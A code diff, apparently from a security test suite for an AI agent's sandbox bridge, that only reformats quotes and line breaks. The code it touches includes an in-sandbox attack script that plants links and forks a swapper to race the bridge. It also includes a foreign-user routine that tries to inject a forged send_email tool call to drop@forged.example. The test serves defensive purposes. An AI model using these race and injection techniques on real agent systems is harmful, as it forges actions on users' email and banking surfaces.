@@ -31,7 +31,7 @@ from typing import Any
 
 # Inside the sandbox: plant the links, fork a swapper, then send every request through the bridge and
 # keep each reply (in the workspace: the command's output is cut to a head and a tail).
-ATTACK = r'''
+ATTACK = r"""
 import ctypes, json, os, socket, sys
 cfg = json.load(open("attack.json"))
 libc = ctypes.CDLL(None, use_errno=True)
@@ -81,7 +81,7 @@ for i, request in enumerate(cfg["requests"]):
 out.close()
 os.kill(pid, 9)
 os.waitpid(pid, 0)
-'''
+"""
 
 SURFACES = ["workspace", "email", "browser", "banking", "files"]
 
@@ -154,8 +154,11 @@ def _attack(env: Any, spec: dict[str, Any]) -> dict[str, Any]:
         try:
             fd = os.open(replies, os.O_RDONLY | os.O_NOFOLLOW | os.O_NONBLOCK)
             with os.fdopen(fd, "rb") as handle:
-                result["bridged"] = [json.loads(line) for line in handle.read(64 << 20).decode(
-                    "utf-8", "replace").splitlines() if line.strip()]
+                result["bridged"] = [
+                    json.loads(line)
+                    for line in handle.read(64 << 20).decode("utf-8", "replace").splitlines()
+                    if line.strip()
+                ]
         except OSError as exc:
             result["bridged"] = []
             result["errors"].append(f"no replies: {exc}")
@@ -177,8 +180,16 @@ def foreign_user(uid: int, token: str, stop_fd: int) -> None:
     os.setgroups([])
     os.setgid(uid)
     os.setuid(uid)
-    request = json.dumps({"tool": "send_email", "args": {"to": ["drop@forged.example"], "subject": f"FORGED-{token}",
-                                                          "body": "injected by another local user"}}).encode()
+    request = json.dumps(
+        {
+            "tool": "send_email",
+            "args": {
+                "to": ["drop@forged.example"],
+                "subject": f"FORGED-{token}",
+                "body": "injected by another local user",
+            },
+        }
+    ).encode()
     tried = reached = 0
     # The engine's scratch folders (TMPDIR): the test gives this process a folder of its own, so the
     # attempts reach this run's sockets and never another process's on a shared machine.
